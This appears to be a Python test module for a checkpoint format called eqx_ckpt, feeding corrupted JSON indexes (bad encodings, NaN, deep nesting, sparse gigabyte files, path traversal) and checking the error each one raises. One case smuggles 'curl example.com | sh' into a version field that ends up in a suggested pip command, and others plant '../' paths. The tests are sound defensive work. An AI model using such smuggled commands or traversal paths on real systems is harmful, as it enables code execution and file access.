"""The bytes and the values of the index."""

import os

from . import attack, forge, forge_text, index_of, seal


def metadata(path, text):
    """Replaces the JSON of the metadata."""
    old = b'"metadata":null'
    forge_text(path, lambda body: body.replace(old, b'"metadata":' + text))


@attack("open", "not one of eqx_ckpt")
def not_json(path, outside):
    """Something else than JSON."""
    (path / "eqx_ckpt.json").write_bytes(b"\x93NUMPY\x01\0v\0" + os.urandom(500))


@attack("open", "not one of eqx_ckpt")
def empty_index(path, outside):
    """An empty file, as a full disk leaves it."""
    (path / "eqx_ckpt.json").write_bytes(b"")


@attack("open", "damaged: its digest")
def truncated_index(path, outside):
    """Half an index."""
    data = (path / "eqx_ckpt.json").read_bytes()
    (path / "eqx_ckpt.json").write_bytes(data[: len(data) // 2])


@attack("open", "not one of eqx_ckpt")
def bom(path, outside):
    """A byte order mark, which some parsers skip and others do not."""
    forge_text(path, lambda body: b"\xef\xbb\xbf" + body)


@attack("open", "not one of eqx_ckpt")
def utf_16(path, outside):
    """Another encoding, which Python's parser would guess."""
    forge_text(path, lambda body: body.decode().encode("utf-16"))


@attack("open", "not JSON")
def not_ascii(path, outside):
    """A character that makes Python hold every other one in four bytes."""
    metadata(path, '"a\U0001f600"'.encode())


@attack("open", "NaN in JSON")
def nan(path, outside):
    """NaN, which is not JSON, and is not equal to itself."""
    metadata(path, b"NaN")


@attack("open", "Infinity in JSON")
def infinity(path, outside):
    """An infinity by name."""
    forge(path, lambda v: v.update(metadata=[float("-inf")]))


@attack("open", "1e999 is not a number")
def huge_float(path, outside):
    """A number that is read as infinity."""
    metadata(path, b"1e999")


@attack("open", "a key twice")
def duplicate_keys(path, outside):
    """Two values of one key: parsers differ in which they take."""
    forge_text(path, lambda body: body + b',"layout":"zarr"')


@attack("open", "a key twice")
def duplicate_keys_below(path, outside):
    """Two values of one key inside the metadata."""
    metadata(path, b'[{"a":1,"a":2}]')


@attack("open", "not JSON")
def deep_nesting(path, outside):
    """A million lists in each other: a parser that calls itself overflows."""
    metadata(path, b"[" * 10**6 + b"]" * 10**6)


@attack("open", "not JSON")
def deep_objects(path, outside):
    """As many objects in each other, and no end."""
    forge_text(path, lambda body: body + b',"x":' + b'{"a":' * 10**6)


@attack("open", "is longer than")
def long_index(path, outside):
    """An index of 1 GB, and it is sparse: a file of a few bytes on the disk."""
    os.truncate(path / "eqx_ckpt.json", 10**9)


@attack("open", "more values than are read")
def many_values(path, outside):
    """Empty lists: each takes three bytes in the file and eighty in memory."""
    metadata(path, b"[[]" + b",[]" * (8 * 2**20) + b"]")


@attack("open", "not JSON")
def many_digits(path, outside):
    """An integer of a million digits, which takes long to turn into one."""
    metadata(path, b"9" * 10**6)


@attack("open", "no 'template' of the right type")
def template_that_is_not(path, outside):
    """A template by a number beyond 64 bits."""
    forge(path, lambda v: v["template"].__setitem__(0, 2**64))


@attack("open", "no 'names' of the right type")
def wrong_types(path, outside):
    """A string where a list belongs, which also has a length and items."""
    forge(path, lambda v: v.update(names="".join(n[0] for n in v["names"])))


@attack("open", "no 'template' of the right type")
def bool_as_integer(path, outside):
    """True, which Python takes for 1."""
    forge(path, lambda v: v["template"].__setitem__(0, False))


@attack("open", "no 'template' of the right type")
def float_as_integer(path, outside):
    """A number that is a float."""
    forge(path, lambda v: v["template"].__setitem__(0, 1.0))


@attack("open", "differ in length")
def columns_of_two_lengths(path, outside):
    """A column that ends before the others."""
    forge(path, lambda v: v["template"].pop())


@attack("open", r"pip install 'eqx_ckpt>=9.9'")
def newer_version(path, outside):
    """A format of the future: it says which release to install."""
    forge(path, lambda v: v.update(version=10**8, reader="9.9"))


@attack("open", r"pip install 'eqx_ckpt>=\?'")
def command_in_the_version(path, outside):
    """A release to install that is a command, in an error that people paste."""
    forge(
        path, lambda v: v.update(version=10**6, reader="1'; curl example.com | sh; '")
    )


@attack("open", "no format version")
def no_version(path, outside):
    """A version that is not a number."""
    forge(path, lambda v: v.update(version=[0]))


@attack("open", "unknown layout")
def unknown_layout(path, outside):
    """A layout that names another TensorStore driver."""
    forge(path, lambda v: v.update(layout="http"))


@attack("open", "files that are not of this format")
def file_outside(path, outside):
    """A data file by a path that leads out of the checkpoint."""
    forge(path, lambda v: v.update(files=["../../../outside/canary"]))


@attack("open", "files that are not of this format")
def other_file_outside(path, outside):
    """A file for other readers, which `verify` reads, by a path that leads outside."""
    forge(path, lambda v: v["others"].update({"../outside/canary": "0" * 32}))


@attack("open", "malformed save id")
def save_id_as_path(path, outside):
    """A save id that is a path: it becomes the name of a directory."""
    forge(path, lambda v: v.update(save="../../../outside"))


@attack("open", "impossible alias")
def alias_of_itself(path, outside):
    """An alias that leads to itself, for ever."""
    forge(path, lambda v: v.update(aliases=[[3, 3]]))


@attack("open", "not one of eqx_ckpt")
def later_format_key(path, outside):
    """The key that says what it is comes last: all would have to be parsed."""
    value = index_of(path)
    del value["digest"], value["format"]
    import json

    body = json.dumps({**value, "format": "eqx_ckpt"}).encode()[:-1]
    (path / "eqx_ckpt.json").write_bytes(seal(body))
